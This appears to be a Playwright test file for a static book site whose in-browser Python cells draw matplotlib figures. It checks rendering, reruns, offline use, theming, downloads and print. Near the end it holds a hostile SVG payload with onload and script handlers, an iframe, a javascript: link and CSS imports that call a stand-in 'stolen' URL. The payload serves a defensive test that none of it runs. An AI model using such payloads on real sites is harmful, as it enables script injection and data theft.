"""Pictures in cells: there before any script, the same when run, opened large, saved, stopped, and never code."""

from __future__ import annotations

import hashlib
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote
from xml.etree import ElementTree

import pytest
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, Locator, Page, expect

from press.processes.static_server import background
from press.site import build
from tests.browser.reader import LONG, Cell, cells

ROOT = Path(__file__).resolve().parents[2]
SECTION = """# Pictures {#pictures}

```python {#plain title="No picture"}
print("only text")
```

```python {#drawn title="Two pictures" alt="Five shades, darker to the right."}
import matplotlib.pyplot as plt

print("before")
plt.imshow([[1, 2, 3, 4, 5]])
plt.show()
print("between")
plt.plot([3, 1, 2], label="loss")
plt.legend()
```

```python {#formula title="A formula"}
class Formula:
    def _repr_latex_(self):
        return "$x^2 + 1$"

Formula()
```
"""


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a chapter with pictures, of a book of its own."""
    folder = tmp_path_factory.mktemp("pictures")
    content = shutil.copytree(ROOT / "tests/book", folder / "content")
    (content / "demo" / "section.md").write_text(SECTION, encoding="utf-8")
    build(ROOT, folder / "site", content)
    with background(folder / "site") as server:
        yield f"{server.url}demo/"


@pytest.fixture(scope="module")
def awake(browser: Browser, book: str) -> Iterator[Page]:
    """The chapter with a Python that has drawn; shared by the tests of this file."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(LONG)
    page = context.new_page()
    page.goto(book)
    cells(page)[1].run()
    yield page
    context.close()


@pytest.fixture
def cell(awake: Page) -> Cell:
    return cells(awake)[1]


def images(cell: Cell) -> Locator:
    return cell.output.locator(".output-picture img")


def files(cell: Cell) -> list[str]:
    """The content of the pictures that the page drew."""
    addresses = images(cell).evaluate_all("all => all.map(one => one.src)")
    return [unquote(address.removeprefix("data:image/svg+xml,")) for address in addresses]


def test_pictures_stand_in_the_page_without_any_script(browser: Browser, book: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(book)
    output = page.locator('[data-cell="drawn"] [data-output]')
    assert re.sub(r"\s+", " ", output.text_content() or "").strip() == "before between"
    first, second = output.locator("img").all()
    assert first.get_attribute("alt") == "Five shades, darker to the right."
    assert "loss" in (second.get_attribute("alt") or "")
    for image in (first, second):
        image.scroll_into_view_if_needed()
        assert int(image.get_attribute("width") or 0) > 100
    link = output.locator("a").first
    assert page.request.get(book + str(link.get_attribute("href"))).headers["content-type"] == "image/svg+xml"
    assert page.locator('[data-cell="formula"] math').count() == 1
    context.close()


def test_the_page_draws_what_the_build_drew(cell: Cell, awake: Page, book: str) -> None:
    html = awake.request.get(book).text()
    built = re.findall(r'href="drawn/output-([0-9A-F]{8})\.svg"', html)
    assert len(built) == 2
    for _ in range(2):  # and a rerun puts them in the place of the first
        cell.run()
        expect(images(cell)).to_have_count(2)
        assert [hashlib.sha256(file.encode()).hexdigest()[:8].upper() for file in files(cell)] == built
    texts = cell.output.evaluate("pre => [...pre.childNodes].map(node => node.tagName + ':' + node.textContent)")
    assert [text for text in texts if not text.endswith(":")] == ["SPAN:before\n", "SPAN:between\n"]


def test_a_formula_is_set(awake: Page) -> None:
    formula = Cell(awake, "formula")
    built = formula.output.locator(".katex-html").inner_html()
    formula.run()
    expect(formula.output.locator("math")).to_have_count(1)
    assert formula.output.locator(".katex-html").inner_text() and built


def test_a_cell_that_does_not_plot_fetches_nothing_of_it(context: BrowserContext, book: str) -> None:
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    html = page.request.get(book).text()
    alone = re.sub(r'(?s)<figure class="cell" id="cell-drawn".*?</figure>', "", html)
    page.route(book, lambda route: route.fulfill(body=alone, content_type="text/html"))
    page.goto(book)
    plain = Cell(page, "plain")
    assert plain.run("print(1 + 1)") == "2\n"
    assert not [url for url in asked if "matplotlib" in url]
    plain.run("import matplotlib.pyplot as plt\nplt.plot([1, 2])")
    expect(images(plain)).to_have_count(1)


def test_reset_brings_back_what_the_build_drew(cell: Cell) -> None:
    cell.run("import matplotlib.pyplot as plt\nplt.plot([1])")
    expect(images(cell)).to_have_count(1)
    cell.button("reset").click()
    expect(cell.output.locator("a.output-picture img")).to_have_count(2)


def test_a_loop_of_figures_can_be_stopped(cell: Cell) -> None:
    loop = "import matplotlib.pyplot as plt\nwhile True:\n    plt.figure(figsize=(1, 1))\n    plt.show()"
    cell.edit(loop)
    cell.start()
    expect(images(cell).nth(2)).to_be_attached(timeout=LONG)
    cell.button("stop").click()
    expect(cell.status).to_contain_text("Stopped")
    assert images(cell).count() >= 3
    assert cell.run("print('again')") == "again\n"


def test_two_hundred_figures_end_in_a_sentence(cell: Cell) -> None:
    many = "import matplotlib.pyplot as plt\nfor n in range(200):\n    plt.figure(figsize=(1, 1))"
    assert "160 more pictures are not shown" in cell.run(many)
    expect(images(cell)).to_have_count(40)


def test_without_network_it_draws_again(cell: Cell, awake: Page) -> None:
    cell.run("import matplotlib.pyplot as plt\nplt.plot([1, 2])")
    awake.context.set_offline(True)
    try:
        for code in ("plt.bar([1, 2], [3, 4])", "plt.plot([2, 1])"):
            cell.run(f"import matplotlib.pyplot as plt\n{code}")
            expect(images(cell)).to_have_count(1)
            expect(cell.error).to_have_count(0)
    finally:
        awake.context.set_offline(False)


def test_pressed_a_picture_opens_large_and_can_be_saved(cell: Cell, awake: Page, tmp_path: Path) -> None:
    cell.run("import matplotlib.pyplot as plt\nplt.imshow([[1, 2], [3, 4]])\nplt.title('Four values')")
    cell.output.locator(".output-picture").press("Enter")
    dialog = awake.get_by_role("dialog", name=re.compile("Four values"))
    expect(dialog).to_be_visible()
    dialog.locator("summary").click()
    expect(dialog.get_by_role("table")).to_contain_text("1234")
    with awake.expect_download() as saved:
        dialog.get_by_role("button", name="Save as SVG").click()
    saved.value.save_as(tmp_path / "figure.svg")
    text = (tmp_path / "figure.svg").read_text(encoding="utf-8")
    assert ElementTree.fromstring(text).tag.endswith("svg") and "light-dark" not in text
    with awake.expect_download() as saved:
        dialog.get_by_role("button", name="Save as PNG").click()
    saved.value.save_as(tmp_path / "figure.png")
    assert (tmp_path / "figure.png").read_bytes().startswith(b"\x89PNG")
    awake.keyboard.press("Escape")
    expect(dialog).to_have_count(0)
    assert cell.output.locator(".output-picture").evaluate("button => button === document.activeElement")


def test_text_in_a_picture_follows_the_theme(cell: Cell, awake: Page) -> None:
    letters = "plt.figure(figsize=(2, 1))\nplt.text(0, 0, 'MMMMMM', size=30)\nplt.axis('off')"
    cell.run(f"import matplotlib.pyplot as plt\n{letters}")
    expect(images(cell)).to_have_count(1)
    shades = []
    for scheme in ("light", "dark"):
        awake.emulate_media(color_scheme=scheme)
        shades.append(images(cell).screenshot())
    awake.emulate_media(color_scheme="light")
    darkest, brightest = zip(*(Image.open(io.BytesIO(shot)).convert("L").getextrema() for shot in shades), strict=True)
    assert darkest[0] < 80 < brightest[0], "dark letters by day"
    assert darkest[1] < 80 < 200 < brightest[1], "bright letters by night"


def test_a_wide_figure_stays_legible_on_a_phone(browser: Browser, book: str) -> None:
    context = browser.new_context(viewport={"width": 390, "height": 844})
    page = context.new_page()
    page.goto(book)
    image = page.locator('[data-cell="drawn"] img').last
    box = image.bounding_box()
    assert box and box["width"] / int(image.get_attribute("width") or 1) * 10.5 * 4 / 3 >= 11
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    context.close()


HOSTILE = """
class Own:
    def _repr_svg_(self):
        return '''<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="90" height="90"
          onload="parent.stolen = 1; top.stolen = 1; fetch('{url}')"><script>top.stolen = 1; fetch('{url}')</script>
          <image href="{url}" width="9" height="9"/><foreignObject width="90" height="90"><iframe
          xmlns="http://www.w3.org/1999/xhtml" src="{url}"></iframe></foreignObject>
          {style}<a x:href="javascript:top.stolen = 1">
          <rect width="90" height="90" style="mask: url('{url}#a')"/></a></svg>'''
Own()
"""
SHEETS = ('<style>@import url("{url}");</style>', '<style>svg {{ background: url("{url}") }}</style>')


def test_nothing_in_a_picture_runs_or_asks_for_anything(cell: Cell, awake: Page) -> None:
    url = "https://example.org/stolen"
    asked: list[str] = []
    awake.on("request", lambda request: asked.append(request.url))
    for sheet in SHEETS:
        cell.run(HOSTILE.format(url=url, style=sheet.format(url=url)))
        expect(cell.output).to_contain_text("This picture is not shown")
    cell.run(HOSTILE.format(url=url, style=""))
    expect(images(cell)).to_have_count(1)
    images(cell).click()
    awake.locator("dialog img").click()
    awake.keyboard.press("Escape")
    assert awake.evaluate("window.stolen") is None
    assert not [each for each in asked if "example.org" in each]


def test_the_notebook_holds_the_pictures(awake: Page, book: str) -> None:
    notebook = json.loads(awake.request.get(f"{book}demo.ipynb").text())
    (cell,) = [each for each in notebook["cells"] if each["id"] == "code-cell-drawn"]
    kinds = [output.get("text") or list(output["data"]) for output in cell["outputs"]]
    assert kinds == ["before\n", ["image/svg+xml", "text/plain"], "between\n", ["image/svg+xml", "text/plain"]]
    assert "light-dark" not in str(cell["outputs"])


def test_paper_shows_the_pictures(browser: Browser, book: str) -> None:
    context = browser.new_context(color_scheme="dark")
    page = context.new_page()
    page.goto(book)
    page.emulate_media(media="print")
    for image in page.locator('[data-cell="drawn"] img').all():
        image.scroll_into_view_if_needed()
        expect(image).to_be_visible()
        assert image.evaluate("image => getComputedStyle(image).colorScheme") in ("light", "normal")
    context.close()
